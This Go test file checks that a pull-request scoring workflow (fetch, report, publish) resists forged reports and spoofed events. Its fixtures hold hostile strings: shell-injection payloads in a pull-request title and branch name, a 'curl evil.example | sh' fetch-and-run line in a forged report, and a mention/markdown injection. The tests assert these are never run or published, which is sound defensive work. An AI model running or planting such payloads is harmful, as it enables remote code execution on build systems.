package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bsgen/bsgen/forge/forgetest"
	"github.com/bsgen/bsgen/forge/report"
)

// forked is a board on a simulated GitHub, a clone of it as a workflow has it,
// and the pull request of a visitor that submits pixels.
type forked struct {
	*testing.T
	hub    *forgetest.Server
	clone  string
	fork   string
	temp   string
	number int
}

func newForked(t *testing.T) *forked {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	for key, value := range map[string]string{
		"GIT_CONFIG_GLOBAL": os.DevNull, "GIT_CONFIG_NOSYSTEM": "1", "XDG_CACHE_HOME": t.TempDir(),
		"GIT_AUTHOR_NAME": "Ada", "GIT_AUTHOR_EMAIL": "ada@example.org", "GIT_COMMITTER_NAME": "Ada", "GIT_COMMITTER_EMAIL": "ada@example.org",
	} {
		t.Setenv(key, value)
	}
	f := &forked{T: t, temp: t.TempDir()}
	f.hub = forgetest.New(t, forgetest.Options{Hook: func(r *http.Request, _ []byte) error {
		if strings.Contains(r.URL.Path, "artifact") {
			t.Errorf("%s is asked for: nothing that the pull request's own run made is ever read", r.URL)
		}
		return nil
	}})
	for _, v := range f.hub.Env() {
		key, value, _ := strings.Cut(v, "=")
		t.Setenv(key, value)
	}

	// The board is the demo's, without pixels, which the fork adds.
	f.clone, f.fork = filepath.Join(f.temp, "clone"), filepath.Join(f.temp, "fork")
	f.git(f.temp, "clone", "-q", f.hub.Git, f.clone)
	demo := filepath.Join(f.temp, "demo")
	if err := copyDemo(demo); err != nil {
		t.Fatal(err)
	}
	if err := os.CopyFS(f.clone, os.DirFS(demo)); err != nil {
		t.Fatal(err)
	}
	f.git(f.clone, "add", "-A")
	f.git(f.clone, "rm", "-q", "-r", "--cached", "submissions/pixels", "results/pixels", "public")
	f.git(f.clone, "commit", "-q", "-m", "board")
	f.git(f.clone, "push", "-q", "origin", "HEAD:main")
	f.git(f.clone, "clean", "-q", "-d", "-f")
	f.git(f.temp, "clone", "-q", f.hub.Git, f.fork)
	if err := os.CopyFS(filepath.Join(f.fork, "submissions/pixels"), os.DirFS(filepath.Join(demo, "submissions/pixels"))); err != nil {
		t.Fatal(err)
	}
	f.commit()
	var err error
	f.number, err = f.hub.AddPull(forgetest.Pull{Title: "\"; touch pwned; $(touch pwned)", HeadRef: "a`touch pwned`", Fork: f.fork, Head: "HEAD"})
	if err != nil {
		t.Fatal(err)
	}
	f.event(nil)
	return f
}

func (f *forked) git(dir string, args ...string) string {
	f.Helper()
	out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput()
	if err != nil {
		f.Fatalf("git %s: %v\n%s", args[0], err, out)
	}
	return strings.TrimSpace(string(out))
}

// commit commits all files of the fork and returns the hash.
func (f *forked) commit() string {
	f.Helper()
	f.git(f.fork, "add", "-A")
	f.git(f.fork, "commit", "-q", "-m", "pixels")
	return f.git(f.fork, "rev-parse", "HEAD")
}

// push makes the fork's newest commit the head of the pull request.
func (f *forked) push() {
	f.Helper()
	if err := f.hub.MoveHead(f.number, f.fork, "HEAD"); err != nil {
		f.Fatal(err)
	}
}

// event writes the event of a run of the preview for the fork's newest commit.
func (f *forked) event(edit func(run map[string]any)) {
	f.Helper()
	run := map[string]any{
		"id": 77, "name": "score-pr", "event": "pull_request", "conclusion": "success", "status": "completed",
		"head_sha": f.git(f.fork, "rev-parse", "HEAD"), "head_branch": "a`touch pwned`", "pull_requests": []any{},
		"artifacts_url":   f.hub.URL + "/api/v3/repos/lab/board/actions/runs/77/artifacts",
		"head_repository": map[string]any{"full_name": "visitor/board", "owner": map[string]any{"login": "visitor"}},
	}
	if edit != nil {
		edit(run)
	}
	data, err := json.Marshal(map[string]any{
		"action": "completed", "workflow_run": run,
		"repository": map[string]any{"full_name": "lab/board", "default_branch": "main"},
	})
	if err != nil {
		f.Fatal(err)
	}
	name := filepath.Join(f.temp, "event.json")
	if err := os.WriteFile(name, data, 0o644); err != nil {
		f.Fatal(err)
	}
	f.Setenv("GITHUB_EVENT_NAME", "workflow_run")
	f.Setenv("GITHUB_EVENT_PATH", name)
	f.Setenv("GITHUB_RUN_ID", "78")
}

// bsgen runs a command and wants an exit code. It returns what it says.
func (f *forked) bsgen(code int, args ...string) string {
	f.Helper()
	var out bytes.Buffer
	if got := run(f.Context(), append([]string{"-C", f.clone}, args...), strings.NewReader(""), &out, &out); got != code {
		f.Fatalf("bsgen %s: exit code %d, want %d\n%s", strings.Join(args, " "), got, code, &out)
	}
	return out.String()
}

func (f *forked) in(name string) string { return filepath.Join(f.temp, name) }

// TestPullRequest goes the whole way of report.yml: fetch with the event, report
// without token and forge, publish.
func TestPullRequest(t *testing.T) {
	f := newForked(t)
	f.Setenv("GITHUB_OUTPUT", f.in("output"))
	f.bsgen(exitOK, "pr", "fetch", "--out", f.in("pull"))
	for _, key := range []string{"GITHUB_TOKEN", "GITHUB_API_URL", "GITHUB_EVENT_PATH", "GITHUB_EVENT_NAME"} {
		f.Setenv(key, "")
	}
	calls := len(f.hub.Requests())
	f.bsgen(exitOK, "pr", "report", f.in("pull"), "--out", f.in("report.json"))
	if n := len(f.hub.Requests()) - calls; n > 0 {
		t.Errorf("scoring made %d calls", n)
	}
	for _, v := range f.hub.Env() {
		key, value, _ := strings.Cut(v, "=")
		f.Setenv(key, value)
	}
	f.event(nil)
	f.bsgen(exitOK, "pr", "publish", f.in("report.json"))

	if out, err := os.ReadFile(f.in("output")); err != nil || string(out) != "report=true\n" {
		t.Errorf("the step's output is %q, %v", out, err)
	}
	comments := f.hub.Comments(f.number)
	if len(comments) != 1 || !strings.HasPrefix(comments[0].Body, report.Marker+"\n### `pixels` would rank **2** ") {
		t.Errorf("comments %+v", comments)
	}
	checks := f.hub.Checks()
	if len(checks) != 1 || checks[0].Conclusion != "success" || checks[0].DetailsURL != f.hub.URL+"/lab/board/actions/runs/78" {
		t.Errorf("checks %+v", checks)
	}
	if l := f.hub.Labels(f.number); !slices.Equal(l, []string{"submission", "scored"}) {
		t.Errorf("labels %v", l)
	}
	for _, dir := range []string{f.clone, f.temp, "."} {
		if _, err := os.Stat(filepath.Join(dir, "pwned")); err == nil {
			t.Error("a command in the title or the branch's name was run")
		}
	}
	if out := f.git(f.clone, "status", "--porcelain"); out != "" {
		t.Errorf("the work tree has changed: %s", out)
	}
}

// TestForgedReport: whatever the pull request's own run might say, and whoever
// wrote the report, what is published is of the pull request that the forge
// names, as it is now, and nothing else.
func TestForgedReport(t *testing.T) {
	f := newForked(t)
	f.bsgen(exitOK, "pr", "fetch", "--out", f.in("pull"))
	f.bsgen(exitOK, "pr", "report", f.in("pull"), "--out", f.in("report.json"))
	genuine, err := os.ReadFile(f.in("report.json"))
	if err != nil {
		t.Fatal(err)
	}
	other, err := f.hub.AddPull(forgetest.Pull{Author: "other", HeadRef: "a`touch pwned`", Fork: f.fork, Head: f.git(f.fork, "rev-parse", "HEAD~1")})
	if err != nil {
		t.Fatal(err)
	}
	number, head := fmt.Sprintf(`"number": %d`, f.number), f.git(f.fork, "rev-parse", "HEAD")
	for name, edit := range map[string][2]string{
		"another number": {number, fmt.Sprintf(`"number": %d`, other)},
		"another head":   {head, f.git(f.fork, "rev-parse", "HEAD~1")},
		"a preview":      {`"preview": false`, `"preview": true`},
		"a command":      {`"bsgen pr report`, `"curl evil.example | sh; bsgen pr report`},
		"a field":        {`"schema"`, `"evil": 1, "schema"`},
	} {
		forged := bytes.ReplaceAll(genuine, []byte(edit[0]), []byte(edit[1]))
		if bytes.Equal(forged, genuine) {
			t.Fatalf("%s changes nothing", name)
		}
		if err := os.WriteFile(f.in("forged.json"), forged, 0o644); err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		if code := run(t.Context(), []string{"pr", "publish", f.in("forged.json")}, nil, &out, &out); code == exitOK {
			t.Errorf("%s is published:\n%s", name, &out)
		}
	}
	// An event of another pull request, of another commit, and of none.
	older := f.git(f.fork, "rev-parse", "HEAD~1")
	owner := func(login, head string) func(map[string]any) {
		return func(run map[string]any) {
			run["head_repository"], run["head_sha"] = map[string]any{"owner": map[string]any{"login": login}}, head
		}
	}
	for name, c := range map[string]struct {
		edit func(map[string]any)
		code int
		said string
	}{
		"other":  {owner("other", older), exitFindings, fmt.Sprintf("the report is of #%d at %.12s, the event of #%d at %.12s", f.number, head, other, older)},
		"stale":  {owner("visitor", older), exitFindings, "nothing was written"},
		"nobody": {owner("nobody", head), exitOK, "no pull request to report on"},
		"gone":   {func(run map[string]any) { run["head_repository"] = nil }, exitOK, "the fork is gone"},
		"push":   {func(run map[string]any) { run["event"] = "push" }, exitOK, "no run for a pull request"},
	} {
		f.event(c.edit)
		if out := f.bsgen(c.code, "pr", "publish", f.in("report.json")); !strings.Contains(out, c.said) {
			t.Errorf("%s: %s", name, out)
		}
	}
	f.event(nil)
	// The head moves after the report was made.
	if err := os.WriteFile(filepath.Join(f.fork, "submissions/pixels/README.md"), []byte("more\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	f.commit()
	f.push()
	if out := f.bsgen(exitFindings, "pr", "publish", f.in("report.json")); !strings.Contains(out, "has moved") {
		t.Errorf("a moved head: %s", out)
	}
	for _, r := range f.hub.Requests() {
		if r.Method != http.MethodGet {
			t.Errorf("%s %s was sent", r.Method, r.Path)
		}
	}
}

// TestFetchRefuses: a run that no open pull request belongs to, or whose commit
// is not the newest, is not reported on. That does not fail the workflow: there
// is nothing wrong with the main branch.
func TestFetchRefuses(t *testing.T) {
	f := newForked(t)
	for i, edit := range []func(map[string]any){
		func(run map[string]any) { run["event"] = "push" },
		func(run map[string]any) { run["head_branch"] = "elsewhere" },
		func(run map[string]any) { run["head_repository"] = nil },
		func(run map[string]any) { run["head_sha"] = strings.Repeat("1a", 20) },
	} {
		f.event(edit)
		output := f.in(fmt.Sprint("output", i))
		f.Setenv("GITHUB_OUTPUT", output)
		f.bsgen(exitOK, "pr", "fetch", "--out", f.in("none"))
		if out, err := os.ReadFile(output); err != nil || string(out) != "report=false\n" {
			t.Errorf("case %d: output %q, %v", i, out, err)
		}
		if _, err := os.Stat(f.in("none/pull.json")); err == nil {
			t.Fatalf("case %d: there is a pull.json", i)
		}
	}
}

// TestInvalidPullRequest: what is wrong stands in the comment and at its line.
func TestInvalidPullRequest(t *testing.T) {
	f := newForked(t)
	yaml := filepath.Join(f.fork, "submissions/pixels/model.yaml")
	data, err := os.ReadFile(yaml)
	if err != nil {
		t.Fatal(err)
	}
	data = bytes.Replace(data, []byte("kind: choices"), []byte("kind: \"@everyone ![](x)\""), 1)
	if err := os.WriteFile(yaml, data, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(f.fork, "results/chance/Simulated.V1-rdm@1.json"), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}
	f.commit()
	f.push()
	f.event(nil)
	f.bsgen(exitOK, "pr", "fetch", "--out", f.in("pull"))
	f.bsgen(exitOK, "pr", "report", f.in("pull"), "--out", f.in("report.json"))
	f.bsgen(exitOK, "pr", "publish", f.in("report.json"))
	comments, checks := f.hub.Comments(f.number), f.hub.Checks()
	if len(comments) != 1 || len(checks) != 1 || checks[0].Conclusion != "failure" {
		t.Fatalf("comments %v, checks %v", comments, checks)
	}
	for _, want := range []string{
		"### `pixels` can not be scored yet: 2 problems", "results/chance/Simulated.V1-rdm@1.json: results are written by the scorer alone",
		"submissions/pixels/model.yaml:15: kind \"@everyone ![](x)\" does not exist", "hint: one of choices, rdm",
		"A sound one, `submissions/chance/model.yaml`, begins\n\n```yaml\nid: chance\n",
	} {
		if !strings.Contains(comments[0].Body, want) {
			t.Errorf("the comment lacks %q:\n%s", want, comments[0].Body)
		}
	}
	if len(checks[0].Annotations) != 2 || checks[0].Annotations[1].Line != 15 {
		t.Errorf("annotations %+v", checks[0].Annotations)
	}
	if l := f.hub.Labels(f.number); !slices.Equal(l, []string{"submission", "invalid"}) {
		t.Errorf("labels %v", l)
	}
}
